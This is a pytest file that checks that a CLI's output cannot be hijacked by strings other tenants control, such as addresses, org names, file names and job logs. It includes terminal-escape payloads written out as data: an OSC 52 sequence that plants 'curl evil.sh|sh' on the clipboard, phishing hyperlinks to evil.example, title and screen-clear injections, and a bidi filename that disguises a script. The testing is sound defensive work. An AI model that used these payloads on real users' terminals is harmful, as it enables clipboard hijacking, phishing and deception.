"""What other people's strings do to a user's or an operator's terminal (found by a hostile review of the CLI).

Each test runs the real CLI (the Typer app, in-process) against the in-process server, with strings another tenant
controls: their e-mail address, the name of an org they made, a file name they wrote into a shared volume, the
command of their job, their job's log. The CLI prints none of the terminal's control bytes (ESC, BEL, C1 CSI) that
came from such a string and no invisible or bidi characters (`cli/terminal.py`), does not read Rich markup in it
(a `[/]` stopped a whole listing with MarkupError; `[link=…]` changed what was shown), and keeps the text.
The server now refuses such addresses at sign-up and invitation; addresses stored before that rule are planted in
the database here, as an older server kept them.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from fastapi.testclient import TestClient

from suanli.cli.main import app
from suanli.client import Client
from tests.cli_helpers import RUNNER, act_as, logged_in
from tests.control_plane import ADMIN_EMAIL, ADMIN_PASSWORD, bearer, join, signup

API = "/api/v1"
# ESC and the other C0 controls but \t \n, DEL, and the C1 range (U+009B is a one-character CSI on many terminals)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\"  # clipboard := "curl evil.sh|sh"
TITLE = "\x1b]0;pwned\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
# what survives the server lower-casing an e-mail address: a hyperlink (OSC 8) over forged text, a hidden (SGR 8)
# run of text, and the cursor sent home (CSI 1;1 f) to overwrite what was printed above
LINK = "\x1b]8;;https://evil.example/login\x1b\\"
HIDE = "\x1b[8m"
HOME = "\x1b[1;1f"


def _client(api: TestClient, email: str, password: str) -> Client:
    return logged_in(api, email, password)


def _as(monkeypatch: pytest.MonkeyPatch, c: Client) -> None:
    act_as(monkeypatch, c)


def run(args: list[str]) -> Any:
    """The CLI's output (stdout + stderr); a crash (e.g. Rich's MarkupError) fails the probe with its exception."""
    r = RUNNER.invoke(app, args)
    if r.exception is not None and not isinstance(r.exception, SystemExit):
        raise AssertionError(f"{args}: the CLI crashed on a tenant's string: {r.exception!r}") from r.exception
    assert r.exit_code == 0, (args, r.exit_code, r.stdout, r.stderr)
    return r.stdout + (r.stderr or "")


def clean(out: str, what: str) -> None:
    bad = sorted({repr(c) for c in CONTROL.findall(out)})
    assert not bad, f"{what}: control bytes from another tenant's string reach the terminal: {bad}\n{out!r}"


def hostile_signup(api: TestClient, local: str, password: str = "tenant-password") -> str:
    """An account whose address is `local`@evil.example as an older server stored it (lower-cased): the server
    now refuses control and invisible characters in an address (`test_a_hostile_address_is_refused_at_signup`)."""
    plain = f"hostile{len(local)}-{sum(map(ord, local))}@evil.example"
    r = api.post(f"{API}/signup", json={"email": plain, "password": password})
    assert r.status_code == 201, r.text
    return plant_email(api, plain, f"{local}@evil.example")


def plant_email(api: TestClient, old: str, new: str) -> str:
    from sqlalchemy import update

    from suanli.db.models import User

    with api.app.state.server.db.write() as s, s.begin():  # type: ignore[attr-defined]
        s.execute(update(User).where(User.email == old).values(email=new.lower()))
    return new.lower()


def admin(api: TestClient) -> Client:
    return _client(api, ADMIN_EMAIL, ADMIN_PASSWORD)


# ---- e-mail addresses: the operator's `admin users`, a team's `orgs members`, an invitee's `orgs invitations` ----
def test_an_email_with_escape_sequences_does_not_reach_the_operators_terminal(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile_signup(api, f"{LINK}ops{HIDE}{HOME}{TITLE}")
    _as(monkeypatch, admin(api))
    clean(run(["admin", "users"]), "suanli admin users")


def test_an_email_with_rich_markup_does_not_break_the_operators_user_listing(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    signup(api, "someone@example.com")
    hostile_signup(api, "[/]")  # one tenant's address must not take down the whole listing
    _as(monkeypatch, admin(api))
    out = run(["admin", "users"])
    assert "someone@example.com" in out and "[/]@evil.example" in out


def test_a_teammates_email_is_shown_literally_in_orgs_members(api: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    owner = signup(api, "owner@example.com")
    org = api.post(f"{API}/orgs", json={"name": "team"}, headers=owner.headers).json()["id"]
    mallory = signup(api, "payroll@evil.example")
    join(api, owner, org, mallory)
    plant_email(api, mallory.email, f"[link=file:///etc/passwd]{HOME}payroll[/link]@evil.example")
    _as(monkeypatch, _client(api, "owner@example.com", "tenant-password"))
    out = run(["orgs", "members", org])
    clean(out, "suanli orgs members")
    assert "[link=file:///etc/passwd]" in out, f"the address's markup was interpreted: {out!r}"


def test_an_invitation_from_a_hostile_org_is_shown_literally_to_the_invitee(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    signup(api, "victim@example.com")
    email = hostile_signup(api, f"support{TITLE}")
    evil = _client(api, email, "tenant-password")
    org = api.post(f"{API}/orgs", json={"name": "[bold red]Suanli Security Team[/bold red] [link=https://evil.example/login]verify"},
                   headers=bearer(evil.token or "")).json()["id"]  # fmt: skip
    r = api.post(
        f"{API}/orgs/{org}/invitations", json={"email": "victim@example.com"}, headers=bearer(evil.token or "")
    )
    assert r.status_code == 201, r.text
    _as(monkeypatch, _client(api, "victim@example.com", "tenant-password"))
    out = run(["orgs", "invitations"])
    clean(out, "suanli orgs invitations (the inviter's address)")
    assert "Team[/bold red]" in out and "[link=https://" in out, f"the org name's markup was interpreted: {out!r}"


# ---- org names: `[/]` in a name aborts `suanli orgs list`, `whoami` and the operator's `admin orgs` ------------
def test_an_org_named_with_markup_does_not_break_the_operators_org_listing(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    t = signup(api, "prankster@example.com")
    r = api.post(f"{API}/orgs", json={"name": "[/]"}, headers=t.headers)
    assert r.status_code == 201, r.text
    _as(monkeypatch, admin(api))
    out = run(["admin", "orgs"])
    assert "prankster@example.com" in out and "[/]" in out


def test_an_org_named_with_markup_does_not_break_a_members_whoami(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    owner = signup(api, "owner2@example.com")
    member = signup(api, "member2@example.com")
    org = api.post(f"{API}/orgs", json={"name": "[/link]"}, headers=owner.headers).json()["id"]
    join(api, owner, org, member)
    _as(monkeypatch, _client(api, "member2@example.com", "tenant-password"))
    out = run(["whoami"])
    assert "[/link]" in out


# ---- a shared volume's file names: `suanli volumes ls vol:NAME/` -----------------------------------------------
def test_a_teammates_file_names_in_a_shared_volume_are_shown_safely(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    owner = signup(api, "vowner@example.com")
    mallory = signup(api, "vmallory@example.com")
    org = api.post(f"{API}/orgs", json={"name": "vteam"}, headers=owner.headers).json()["id"]
    join(api, owner, org, mallory)
    adm = bearer(admin(api).token or "")
    r = api.post(
        f"{API}/admin/orgs/{org}/transactions", json={"kind": "topup", "amount": "100", "memo": "t"}, headers=adm
    )
    assert r.status_code == 201, r.text
    r = api.post(f"{API}/volumes", json={"name": "shared", "size": "1Gi", "org": org}, headers=owner.headers)
    assert r.status_code == 201, r.text
    for name in (
        f"results{CLEAR}\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07.csv",
        "[blink on red]URGENT rotate your token",
        "[link=https:evil.example]README",
    ):
        r = api.put(f"{API}/volumes/shared/files", params={"path": name, "org": org}, content=b"x",
                    headers=mallory.headers)  # fmt: skip
        assert r.status_code == 200, r.text
    _as(monkeypatch, _client(api, "vowner@example.com", "tenant-password"))
    out = run(["volumes", "ls", "vol:shared/", "--org", org])
    assert "[blink on red]" in out and "[link=https:evil.example]" in out, f"file names' markup interpreted: {out!r}"
    clean(out, "suanli volumes ls")


# ---- a teammate's workload: `suanli describe` (its spec) and `suanli logs` (its log) -----------------------------
def _team_with_job(api: TestClient, command: str) -> tuple[Any, str, str]:
    from tests.test_workloads_api import make_platform

    p = make_platform(api)  # tenant@example.com owns a personal org with money; 128 virtual GPUs and this host
    mallory = signup(api, "wmallory@example.com")
    org = api.post(f"{API}/orgs", json={"name": "wteam"}, headers=p.tenant.headers).json()["id"]
    join(api, p.tenant, org, mallory)
    p.topup(org, "100")
    w = p.submit({"name": "train", "command": command, "resources": {"gpus": 0}}, who=mallory, org=org)
    return p, w["id"], org


def test_a_teammates_job_spec_does_not_reach_the_terminal_raw_in_describe(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, wl, _ = _team_with_job(api, f"python3 -c 1 # {OSC52}{CLEAR}")
    _as(monkeypatch, _client(api, "tenant@example.com", "tenant-password"))  # the org's owner looks at it
    clean(run(["describe", wl]), "suanli describe (a teammate's spec command)")


def test_a_teammates_log_does_not_reach_an_owners_terminal_raw(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.test_workloads_api import finished

    payload = "printf 'epoch 1 ok\\033]52;c;Y3VybCBldmlsLnNofHNo\\007\\033]0;pwned\\007\\n'"
    p, wl, _ = _team_with_job(api, payload)
    done = p.until(wl, finished, timeout=60)
    assert done["state"] == "succeeded", done["reason"]
    _as(monkeypatch, _client(api, "tenant@example.com", "tenant-password"))  # the org's owner, not the job's owner
    out = run(["logs", wl])
    assert "epoch 1 ok" in out
    clean(out, "suanli logs (a teammate's job, read by the org's owner)")


# ---- the operator's view of a redemption: `suanli admin codes list BATCH` ---------------------------------------
def test_a_redeemers_email_does_not_reach_the_operators_terminal(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    adm = admin(api)
    made = adm.admin_topup_codes_create("5", 1, note="promo")
    email = hostile_signup(api, f"{LINK}billing{HIDE}")
    _client(api, email, "tenant-password").redeem(made.codes[0].code)
    _as(monkeypatch, adm)
    clean(run(["admin", "codes", "list", made.batch.id]), "suanli admin codes list (redeemed by)")


# ---- invisible characters: an address that looks like someone else's --------------------------------------------
@pytest.mark.parametrize("lookalike", ["ops@example.com\u200b", "ops\u2060@example.com", "\u202eops@example.com"])
def test_an_address_with_invisible_or_bidi_characters_cannot_pose_as_another(
    api: TestClient, monkeypatch: pytest.MonkeyPatch, lookalike: str
) -> None:
    """Org names refuse Cf characters (`accounts.org_name_problem`) because they make one name look like another;
    an e-mail address is what teammates and invitees recognise people by, and has no such rule."""
    r = api.post(f"{API}/signup", json={"email": lookalike, "password": "tenant-password"})
    assert r.status_code == 422 and "invisible" in r.json()["detail"], r.text
    r = api.post(f"{API}/orgs/{signup(api, 'inviter3@example.com').org_id}/invitations", json={"email": lookalike})
    assert r.status_code in (401, 403, 422), r.text
    lookalike = hostile_signup(api, lookalike.rpartition("@")[0])  # as an older server let it in
    victim = signup(api, "victim3@example.com")
    evil = _client(api, lookalike, "tenant-password")
    org = api.post(f"{API}/orgs", json={"name": "operators"}, headers=bearer(evil.token or "")).json()["id"]
    api.post(f"{API}/orgs/{org}/invitations", json={"email": victim.email, "role": "admin"},
             headers=bearer(evil.token or ""))  # fmt: skip
    _as(monkeypatch, _client(api, victim.email, "tenant-password"))
    out = run(["orgs", "invitations"])
    assert not re.search(r"[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]", out), (
        f"an invitation 'invited by' a lookalike of the operator's address, invisibly: {out!r}"
    )


def test_a_teammates_file_name_with_a_bidi_override_is_not_shown_reversed(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`report\u202egpj.sh` shows as `reporths.jpg` in a terminal: a script passed off as a picture."""
    owner = signup(api, "bowner@example.com")
    mallory = signup(api, "bmallory@example.com")
    org = api.post(f"{API}/orgs", json={"name": "bteam"}, headers=owner.headers).json()["id"]
    join(api, owner, org, mallory)
    r = api.post(f"{API}/admin/orgs/{org}/transactions", json={"kind": "topup", "amount": "100", "memo": "t"},
                 headers=bearer(admin(api).token or ""))  # fmt: skip
    assert r.status_code == 201, r.text
    assert api.post(f"{API}/volumes", json={"name": "shared", "size": "1Gi", "org": org},
                    headers=owner.headers).status_code == 201  # fmt: skip
    r = api.put(f"{API}/volumes/shared/files", params={"path": "report\u202egpj.sh", "org": org}, content=b"x",
                headers=mallory.headers)  # fmt: skip
    assert r.status_code == 200, r.text
    _as(monkeypatch, _client(api, "bowner@example.com", "tenant-password"))
    out = run(["volumes", "ls", "vol:shared/", "--org", org])
    assert "\u202e" not in out, f"a bidi override from a teammate's file name reaches the terminal: {out!r}"


def test_a_fullwidth_spelling_of_a_registered_address_is_not_a_second_account(api: TestClient) -> None:
    """`ｏｐｓ@example.com` (fullwidth letters) renders like the operator's `ops@example.com`; under NFKC it is that
    address. Either it is the same (taken) address, or it is refused."""
    r = api.post(f"{API}/signup", json={"email": "\uff4f\uff50\uff53@example.com", "password": "tenant-password"})
    assert r.status_code in (409, 422), (r.status_code, r.text)


@pytest.mark.parametrize("local", ["\x1b]0;pwned\x1b\\ops", "ops\x07", "ops\u202e", "[/]\u200b"])
def test_a_hostile_address_is_refused_at_signup_and_invitation(api: TestClient, local: str) -> None:
    r = api.post(f"{API}/signup", json={"email": f"{local}@example.com", "password": "tenant-password"})
    assert r.status_code == 422 and r.json()["detail"].startswith("email: must not contain"), r.text
    owner = signup(api, "inviter@example.com")
    org = api.post(f"{API}/orgs", json={"name": "team"}, headers=owner.headers).json()["id"]
    r = api.post(f"{API}/orgs/{org}/invitations", json={"email": f"{local}@example.com"}, headers=owner.headers)
    assert r.status_code == 422 and "email" in r.json()["detail"], r.text
    assert (
        api.post(f"{API}/signup", json={"email": "[ok]@example.com", "password": "tenant-password"}).status_code == 201
    )
